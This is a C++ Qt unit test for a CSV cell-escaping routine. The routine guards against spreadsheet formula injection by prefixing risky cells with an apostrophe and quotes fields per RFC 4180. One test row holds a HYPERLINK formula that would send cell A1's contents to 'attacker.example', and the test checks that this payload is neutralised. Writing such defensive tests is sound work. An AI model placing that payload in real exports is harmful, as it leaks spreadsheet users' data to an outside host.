// The one CSV cell rule (domain/core/csv.h) that every export uses, the desk's and renewalctl's:
// a text cell that a spreadsheet would run as a formula is written with a leading apostrophe,
// a number the program produced stays a number, and the result is quoted as RFC 4180 says.
#include "domain/core/csv.h"

#include <QtTest>

Q_DECLARE_METATYPE(rd::csv::Kind)

class TestCsv : public QObject
{
    Q_OBJECT

private slots:
    void field_data()
    {
        QTest::addColumn<QByteArray>("value");
        QTest::addColumn<rd::csv::Kind>("kind");
        QTest::addColumn<QByteArray>("expected");
        const auto text = rd::csv::Kind::Text;
        const auto number = rd::csv::Kind::Number;
        // Each leading character a spreadsheet reads as the start of a formula, in a text cell.
        QTest::newRow("=") << QByteArray("=1+1") << text << QByteArray("'=1+1");
        QTest::newRow("+") << QByteArray("+1+1") << text << QByteArray("'+1+1");
        QTest::newRow("-") << QByteArray("-1+1") << text << QByteArray("'-1+1");
        QTest::newRow("@") << QByteArray("@SUM(A1)") << text << QByteArray("'@SUM(A1)");
        QTest::newRow("tab") << QByteArray("\t=1") << text << QByteArray("'\t=1");
        // A carriage return also needs quotes: the apostrophe goes inside them.
        QTest::newRow("CR") << QByteArray("\r=1") << text << QByteArray("\"'\r=1\"");
        QTest::newRow("HYPERLINK, with its comma and quotes")
            << QByteArray("=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"x\")") << text
            << QByteArray("\"'=HYPERLINK(\"\"http://attacker.example/?leak=\"\"&A1,\"\"x\"\")\"");
        // Only the first character counts.
        QTest::newRow("= later") << QByteArray("a=1") << text << QByteArray("a=1");
        QTest::newRow("plain text") << QByteArray("sub_123") << text << QByteArray("sub_123");
        QTest::newRow("empty text") << QByteArray() << text << QByteArray();
        QTest::newRow("empty number") << QByteArray() << number << QByteArray();
        // Numbers the program produced stay numbers; the same text in a text column does not.
        QTest::newRow("negative number") << QByteArray("-12.50") << number << QByteArray("-12.50");
        QTest::newRow("negative whole number") << QByteArray("-3") << number << QByteArray("-3");
        QTest::newRow("number") << QByteArray("1234.56") << number << QByteArray("1234.56");
        QTest::newRow("negative \"number\" in a text column")
            << QByteArray("-12.50") << text << QByteArray("'-12.50");
        // A numeric column cannot let a formula out: what is not a plain decimal is text.
        QTest::newRow("formula in a number column")
            << QByteArray("=1+1") << number << QByteArray("'=1+1");
        QTest::newRow("-= in a number column") << QByteArray("-=1") << number << QByteArray("'-=1");
        QTest::newRow("- alone in a number column")
            << QByteArray("-") << number << QByteArray("'-");
        QTest::newRow("-1. in a number column")
            << QByteArray("-1.") << number << QByteArray("'-1.");
        QTest::newRow("+1 in a number column") << QByteArray("+1") << number << QByteArray("'+1");
        QTest::newRow("-1e5 in a number column")
            << QByteArray("-1e5") << number << QByteArray("'-1e5");
        // RFC 4180: quotes doubled, and a field with a comma, a quote or a line break quoted.
        QTest::newRow("comma") << QByteArray("a,b") << text << QByteArray("\"a,b\"");
        QTest::newRow("quote") << QByteArray("say \"hi\"") << text
                               << QByteArray("\"say \"\"hi\"\"\"");
        QTest::newRow("newline") << QByteArray("one\ntwo") << text << QByteArray("\"one\ntwo\"");
        QTest::newRow("CRLF inside")
            << QByteArray("one\r\ntwo") << text << QByteArray("\"one\r\ntwo\"");
        QTest::newRow("dangerous and quoted")
            << QByteArray("-a,\"b\"") << text << QByteArray("\"'-a,\"\"b\"\"\"");
        QTest::newRow("UTF-8") << QByteArray("zoë") << text << QByteArray("zoë");
    }
    void field()
    {
        QFETCH(QByteArray, value);
        QFETCH(rd::csv::Kind, kind);
        QFETCH(QByteArray, expected);
        QCOMPARE(QByteArray::fromStdString(rd::csv::field(value.toStdString(), kind)), expected);
    }

    // A record: each field by its column's kind, the fields past the kinds as text.
    void line()
    {
        using rd::csv::Kind;
        QCOMPARE(QByteArray::fromStdString(
                     rd::csv::line({"-5", "-5", "=x", "a,b"}, {Kind::Number, Kind::Text})),
            QByteArray("-5,'-5,'=x,\"a,b\"\n"));
        QCOMPARE(QByteArray::fromStdString(rd::csv::line({})), QByteArray("\n"));
        QCOMPARE(QByteArray::fromStdString(rd::csv::line({""})), QByteArray("\n"));
    }
};

QTEST_APPLESS_MAIN(TestCsv)
#include "tst_csv.moc"
